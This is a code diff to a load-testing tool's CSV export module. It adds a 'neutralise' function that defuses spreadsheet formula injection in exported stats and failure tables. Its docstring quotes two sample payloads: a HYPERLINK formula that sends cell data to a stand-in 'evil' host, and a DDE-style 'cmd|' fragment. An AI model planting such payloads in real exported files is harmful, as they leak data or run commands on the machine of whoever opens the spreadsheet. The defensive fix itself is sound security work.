@@ -3,6 +3,11 @@
 ``PREFIX_stats.csv``, ``PREFIX_stats_history.csv``, ``PREFIX_failures.csv`` and
 ``PREFIX_exceptions.csv`` follow Locust; ``PREFIX_failure_samples.csv`` is horde's addition (the
 concrete failures: URL, status, headers, body excerpt).
+
+Names, URLs, messages, headers and bodies come from the target or from user code and end up in
+a spreadsheet: every cell that a spreadsheet would run as a formula is neutralised (see
+:func:`neutralise`), in the files and in the web UI's downloads alike (both come from
+:func:`table`).
 """
 
 from __future__ import annotations
@@ -10,6 +15,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import time
 from collections.abc import Sequence
 from pathlib import Path
@@ -62,6 +68,27 @@ SAMPLE_COLUMNS = [
 
 
 _num = numbers.text
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+"""First characters that make a spreadsheet evaluate a cell (OWASP's CSV injection list, plus
+the full-width forms some spreadsheets accept too)."""
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def neutralise(cell: str) -> str:
+    """``cell``, with a leading ``'`` if a spreadsheet would take it for a formula.
+
+    A response body ``=HYPERLINK("http://evil/?"&A1)`` or a URL name ``@SUM(1+1)*cmd|...`` would
+    otherwise run when the CSV is opened. Plain numbers (``-5``, ``+1.5e3``) are left alone, so
+    columns of numbers stay numbers; the quote makes the rest text (OWASP's recommendation).
+    """
+    if cell.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(cell):
+        return "'" + cell
+    return cell
+
+
+def safe_row(row: Sequence[str]) -> list[str]:
+    """Every cell of ``row`` through :func:`neutralise`."""
+    return [neutralise(cell) for cell in row]
 
 
 def _iso(epoch: float) -> str:
@@ -105,22 +132,24 @@ class CsvWriter:
         rows = [*snapshot.entries, snapshot.total] if self.full_history else [snapshot.total]
         for entry in rows:
             self._history.writerow(
-                [
-                    stamp,
-                    str(snapshot.user_count),
-                    entry.method,
-                    entry.name,
-                    _num(entry.current_rps),
-                    _num(entry.current_fail_per_sec),
-                    *self._percentile_cells(entry),
-                    str(entry.num_requests),
-                    str(entry.num_failures),
-                    _num(entry.median_response_time),
-                    _num(entry.avg_response_time),
-                    _num(entry.min_response_time),
-                    _num(entry.max_response_time),
-                    _num(entry.avg_content_length),
-                ]
+                safe_row(
+                    [
+                        stamp,
+                        str(snapshot.user_count),
+                        entry.method,
+                        entry.name,
+                        _num(entry.current_rps),
+                        _num(entry.current_fail_per_sec),
+                        *self._percentile_cells(entry),
+                        str(entry.num_requests),
+                        str(entry.num_failures),
+                        _num(entry.median_response_time),
+                        _num(entry.avg_response_time),
+                        _num(entry.min_response_time),
+                        _num(entry.max_response_time),
+                        _num(entry.avg_content_length),
+                    ]
+                )
             )
         self._history_file.flush()
 
@@ -155,17 +184,19 @@ TABLES = ("stats", "failures", "exceptions", "failure_samples")
 def table(
     kind: str, snapshot: StatsSnapshot, percentiles: Sequence[float] = PERCENTILES_TO_REPORT
 ) -> tuple[list[str], list[list[str]]]:
-    """``(header, rows)`` of one of :data:`TABLES`."""
+    """``(header, rows)`` of one of :data:`TABLES`, every cell safe to open in a spreadsheet."""
     if kind == "stats":
         labels = [percentile_label(p) for p in percentiles]
-        return [*STATS_COLUMNS, *labels], _stats_rows(snapshot, percentiles)
-    if kind == "failures":
-        return FAILURE_COLUMNS, _failure_rows(snapshot)
-    if kind == "exceptions":
-        return EXCEPTION_COLUMNS, _exception_rows(snapshot)
-    if kind == "failure_samples":
-        return SAMPLE_COLUMNS, _sample_rows(snapshot)
-    raise ValueError(f"no CSV table named {kind!r}")
+        header, rows = [*STATS_COLUMNS, *labels], _stats_rows(snapshot, percentiles)
+    elif kind == "failures":
+        header, rows = FAILURE_COLUMNS, _failure_rows(snapshot)
+    elif kind == "exceptions":
+        header, rows = EXCEPTION_COLUMNS, _exception_rows(snapshot)
+    elif kind == "failure_samples":
+        header, rows = SAMPLE_COLUMNS, _sample_rows(snapshot)
+    else:
+        raise ValueError(f"no CSV table named {kind!r}")
+    return header, [safe_row(row) for row in rows]
 
 
 def render(kind: str, snapshot: StatsSnapshot) -> str:
